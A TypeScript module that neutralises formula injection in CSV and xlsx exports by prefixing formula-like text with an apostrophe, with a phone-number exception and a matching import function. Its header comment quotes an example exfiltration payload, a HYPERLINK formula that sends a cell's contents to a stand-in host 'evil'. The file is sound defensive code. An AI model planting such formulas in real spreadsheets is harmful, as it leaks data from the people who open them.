/**
 * Formula-injection guard for exported spreadsheets (OWASP "CSV injection"): a text cell that
 * starts with `=`, `+`, `-`, `@`, tab or CR gets a leading apostrophe, so Excel and LibreOffice
 * show it as text instead of evaluating e.g. `=HYPERLINK("http://evil/?"&A1)` or a DDE call.
 *
 * Only *text* cells are guarded: the writers put real numbers (including negative ones) into
 * number cells, which are data and never formulas.
 *
 * CSV — `neutraliseFormula`: every text cell with one of those first characters is prefixed,
 * phone numbers included. Excel opens `+7 916 123-45-67` from a CSV as the formula
 * `=+7 916 123-45-67` and shows #NULL! or a mangled number, so the apostrophe is the lesser evil.
 *
 * xlsx — `neutraliseXlsxText`: a cell without an `<f>` element is never evaluated, whatever its
 * type (t="s", t="inlineStr", or the t="str" + `<v>` that exceljs writes when shared strings are
 * off), so a string cell is already safe inside the xlsx. We still guard the same first
 * characters because users re-save the workbook as CSV, where the text becomes live again.
 * The one exception is a phone-like `+…` value (`+`, then only digits, spaces, dashes, brackets,
 * dots and an optional extension): it is by far the common case in a CRM, and even if a re-saved
 * CSV turns it into a formula, a formula without letters can only do arithmetic — no function
 * calls, no DDE, no links.
 *
 * The import takes one guard apostrophe off again (`removeFormulaGuard`). Text that already starts
 * with apostrophes before such a character gets one more, so a round trip gives it back exactly.
 */

const FORMULA_START = /^[=+\-@\t\r]/;
const GUARD_NEEDED = /^'*[=+\-@\t\r]/;
const GUARDED = /^'+[=+\-@\t\r]/;
const PHONE_LIKE = /^\+[\d\s\-().]*\d[\d\s\-().]*(?:\s*(?:ext\.?|x|доб\.?)\s*\d+)?$/i;

/** Whether a spreadsheet would treat this text as the start of a formula. */
export function isFormulaLike(text: string): boolean {
  return FORMULA_START.test(text);
}

/** `+`, then digits with phone punctuation, optionally an extension: `+7 (916) 123-45-67 доб. 12`. */
export function isPhoneLike(text: string): boolean {
  return PHONE_LIKE.test(text);
}

/** The CSV rule: any formula-like text gets a leading apostrophe. */
export function neutraliseFormula(text: string): string {
  return GUARD_NEEDED.test(text) ? `'${text}` : text;
}

/** The xlsx rule: as for CSV, except that phone-like `+…` values stay as they are. */
export function neutraliseXlsxText(text: string): string {
  return GUARD_NEEDED.test(text) && !isPhoneLike(text) ? `'${text}` : text;
}

/** Imported text: the apostrophe a guard put before a formula start is taken off. */
export function removeFormulaGuard(text: string): string {
  return GUARDED.test(text) ? text.slice(1) : text;
}
